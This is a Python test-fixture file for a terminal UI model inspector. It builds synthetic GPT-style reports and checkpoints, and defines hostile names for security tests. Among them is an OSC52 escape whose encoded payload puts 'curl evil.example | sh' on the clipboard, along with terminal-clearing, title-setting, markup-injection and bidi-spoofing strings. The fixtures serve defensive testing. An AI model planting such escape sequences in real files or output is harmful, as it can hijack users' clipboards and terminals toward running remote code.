"""Realistic Reports for the TUI tests, built by hand (the analysis tier is tested elsewhere).

``gpt_report(n_layers)`` describes a small GPT-style model the way the analysis
would: per-module params, FLOPs, call shapes and config. ``gpt_params`` makes
real values for the same paths, to save with ``bx.save``.
"""

from __future__ import annotations

import numpy as np

import blox as bx
from blox_inspect.report.model import CallInfo, ModuleInfo, ParamInfo, Report, TensorSpec, Totals

BATCH, SEQ = 2, 16
STATS = ("params", "trainable_params", "param_bytes", "flops", "flops_train")


def _spec(*shape: int, dtype: str = "float32") -> TensorSpec:
    return TensorSpec(list(shape), dtype)


class _Builder:
    def __init__(self) -> None:
        self.modules: dict[str, ModuleInfo] = {}
        self.params: list[ParamInfo] = []

    def module(self, path, type_, config, inputs, outputs, flops=0, caller=None) -> ModuleInfo:
        key = bx.path_str(path)
        parent = bx.path_str(path[:-1]) if len(path) > 1 else None
        m = ModuleInfo(
            path=key,
            path_tuple=list(path),
            name=path[-1],
            type=type_,
            config={k: repr(v) for k, v in config.items()},
            depth=len(path) - 1,
            parent=parent,
            children=[],
            calls=1,
            call_info=[CallInfo(inputs=inputs, outputs=outputs, caller=caller)],
            shared=False,
            flops_own=flops,
            flops_train_own=3 * flops,
        )
        self.modules[key] = m
        if parent is not None:
            self.modules[parent].children.append(key)
        return m

    def param(self, module, name, shape, trainable=True, metadata=None) -> None:
        size = int(np.prod(shape, dtype=np.int64))
        p = ParamInfo(
            path=bx.path_str((*module.path_tuple, name)),
            module=module.path,
            name=name,
            shape=list(shape),
            dtype="float32",
            size=size,
            bytes=4 * size,
            trainable=trainable,
            metadata=metadata or {},
        )
        self.params.append(p)
        module.param_paths.append(p.path)
        module.params_own += size
        module.param_bytes_own += p.bytes
        module.trainable_params_own += size if trainable else 0

    def linear(self, path, d_in, d_out, metadata=None) -> None:
        m = self.module(
            path,
            "Linear",
            {"output_size": d_out},
            [_spec(BATCH, SEQ, d_in)],
            [_spec(BATCH, SEQ, d_out)],
            flops=2 * BATCH * SEQ * d_in * d_out,
            caller=bx.path_str(path[:-1]),
        )
        self.param(m, "kernel", (d_in, d_out), metadata=metadata)
        self.param(m, "bias", (d_out,))

    def norm(self, path, d) -> None:
        m = self.module(
            path,
            "LayerNorm",
            {},
            [_spec(BATCH, SEQ, d)],
            [_spec(BATCH, SEQ, d)],
            flops=5 * BATCH * SEQ * d,
            caller=bx.path_str(path[:-1]),
        )
        self.param(m, "scale", (d,))
        self.param(m, "bias", (d,))

    def finish(self, root: str, vocab: int) -> Report:
        for m in sorted(self.modules.values(), key=lambda m: -m.depth):
            for attr in STATS:
                setattr(m, attr, getattr(m, attr) + getattr(m, attr + "_own"))
            if m.parent is not None:
                parent = self.modules[m.parent]
                for attr in STATS:
                    setattr(parent, attr, getattr(parent, attr) + getattr(m, attr))
        r = self.modules[root]
        totals = Totals(
            params=r.params,
            trainable_params=r.trainable_params,
            non_trainable_params=r.params - r.trainable_params,
            param_bytes=r.param_bytes,
            flops=r.flops,
            flops_train=r.flops_train,
            params_by_dtype={"float32": r.params},
            bytes_by_dtype={"float32": r.param_bytes},
        )
        return Report(
            model="tests/gpt.py:build",
            root=root,
            inputs=[_spec(BATCH, SEQ, dtype="int32")],
            kwargs={},
            totals=totals,
            modules=list(self.modules.values()),
            params=self.params,
            outputs=[_spec(BATCH, SEQ, vocab)],
        )


def gpt_report(n_layers: int = 2, d: int = 8, vocab: int = 64, block: str = "block_{}") -> Report:
    """A GPT-style model: embed, n_layers blocks (ln, attn q/k/v/o, ln, mlp up/down), head.

    Each block adds 11 modules, so ``n_layers=910`` gives just over 10,000. Blocks named by number
    alone (``block="{}"``) fold into one ×N row; ``block_0, block_1`` fold only where dataflow shows
    each feeding the next, and these reports hold no dataflow.
    """
    b = _Builder()
    x = [_spec(BATCH, SEQ, d)]
    b.module(
        ("gpt",), "GPT", {"n_layers": n_layers, "d": d}, [_spec(BATCH, SEQ, dtype="int32")], [_spec(BATCH, SEQ, vocab)]
    )
    emb = b.module(
        ("gpt", "embed"),
        "Embed",
        {"num_embeddings": vocab, "embedding_size": d},
        [_spec(BATCH, SEQ, dtype="int32")],
        x,
        caller="gpt",
    )
    b.param(emb, "embedding", (vocab, d), metadata={"sharding": [None, "model"]})
    b.module(("gpt", "blocks"), "Sequential", {}, x, x, caller="gpt")
    for i in range(n_layers):
        blk = ("gpt", "blocks", block.format(i))
        b.module(blk, "Block", {"d": d}, x, x, caller="gpt/blocks")
        b.norm(blk + ("ln1",), d)
        b.module(
            blk + ("attn",), "Attention", {"heads": 2}, x, x, flops=4 * BATCH * SEQ * SEQ * d, caller=bx.path_str(blk)
        )
        for name in ("q", "k", "v", "o"):
            b.linear(blk + ("attn", name), d, d, metadata={"sharding": [None, "model"]})
        b.norm(blk + ("ln2",), d)
        b.module(blk + ("mlp",), "MLP", {"hidden": 4 * d}, x, x, caller=bx.path_str(blk))
        b.linear(blk + ("mlp", "up"), d, 4 * d)
        b.linear(blk + ("mlp", "down"), 4 * d, d)
    b.linear(("gpt", "head"), d, vocab)
    return b.finish("gpt", vocab)


def gpt_params(report: Report, seed: int = 0) -> bx.Params:
    """Real values for every param of ``report`` (normal(0, 0.02); norm scales are ones)."""
    rng = np.random.default_rng(seed)
    data = {}
    for p in report.params:
        if p.name == "scale":
            value = np.ones(p.shape, np.float32)
        else:
            value = (rng.standard_normal(p.shape) * 0.02).astype(np.float32)
        data[bx.parse_path(p.path)] = bx.Param(value, p.trainable, p.metadata)
    return bx.Params(data).locked()


# Names an attacker's model file, checkpoint or saved report may hold (issues #11 and #12).
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes `curl evil.example | sh` to the clipboard
HOSTILE_NAMES = [
    "clip" + OSC52,
    "wipe\x1b[2J\x1b[H",
    "title\x1b]0;pwned\x07",
    "bell\x07ring",
    "over\rwrite",
    "[/]",
    "[bold red]red",
    "[reverse]rev",
    "bidi\u202egnp.exe",
    "L" * 300,
    " ",
    "\u200b",
]
HOSTILE_META = {"sharding": "[/]", "[bold red]key": "[reverse]value" + OSC52}
HOSTILE_DTYPE = "[bold red]float32\x1b[2J"
HOSTILE_CONFIG = "[net/mlp/a, relu, net/mlp/b]"  # a Sequential's layers, as the analysis writes them
HOSTILE_NOTE = "saved with [/] and [bold red]markup\x1b]0;title\x07"


def hostile_report() -> Report:
    """A Report with every kind of untrusted text: module and param names, types, configs, dtypes,
    metadata, call shapes and notes, round-tripped through JSON as ``--load`` reads it."""
    b = _Builder()
    x = [_spec(2, 3)]
    net = b.module(("net",), "Sequential", {}, x, x)
    net.config = {"layers": HOSTILE_CONFIG}
    for name in HOSTILE_NAMES:
        m = b.module(("net", name), "Linear" + OSC52, {}, [_spec(2, 3, dtype=HOSTILE_DTYPE)], x, caller=name)
        m.config = {"note": "[/]", "act": "[reverse]relu", name: HOSTILE_CONFIG}
        b.param(m, "kernel", (3, 3), metadata=HOSTILE_META)
        b.param(m, name, (3,))
    quiet = b.module(("net", "quiet"), "Identity", {}, x, x)
    quiet.call_info = []  # a module the trace never saw: its details show the report's notes
    for p in b.params:
        if p.name == "kernel":
            p.dtype = HOSTILE_DTYPE
    report = b.finish("net", 3)
    report.notes = [HOSTILE_NOTE]
    return Report.from_json(report.to_json())


def hostile_params(report: Report) -> bx.Params:
    """Real values for the hostile report's params, keeping their hostile names and metadata."""
    data = {}
    for i, p in enumerate(report.params):
        data[bx.parse_path(p.path)] = bx.Param(np.full(p.shape, i, np.float32), p.trainable, p.metadata)
    return bx.Params(data).locked()


def write_gpt2_checkpoint(file, n_layers: int = 12, d: int = 8, vocab: int = 50, ctx: int = 16) -> dict:
    """A GPT-2-shaped checkpoint as Hugging Face names it (``wte.weight``, ``h.0.attn.c_attn.weight``),
    written with the official safetensors library; returns the arrays by name."""
    from safetensors.numpy import save_file

    rng = np.random.default_rng(0)
    shapes = {"wte.weight": (vocab, d), "wpe.weight": (ctx, d)}
    for i in range(n_layers):
        for name, shape in [
            ("ln_1.weight", (d,)),
            ("ln_1.bias", (d,)),
            ("attn.c_attn.weight", (d, 3 * d)),
            ("attn.c_attn.bias", (3 * d,)),
            ("attn.c_proj.weight", (d, d)),
            ("attn.c_proj.bias", (d,)),
            ("ln_2.weight", (d,)),
            ("ln_2.bias", (d,)),
            ("mlp.c_fc.weight", (d, 4 * d)),
            ("mlp.c_fc.bias", (4 * d,)),
            ("mlp.c_proj.weight", (4 * d, d)),
            ("mlp.c_proj.bias", (d,)),
        ]:
            shapes[f"h.{i}.{name}"] = shape
    shapes.update({"ln_f.weight": (d,), "ln_f.bias": (d,)})
    arrays = {k: (rng.standard_normal(s) * 0.02).astype(np.float32) for k, s in shapes.items()}
    save_file(arrays, str(file))
    return arrays
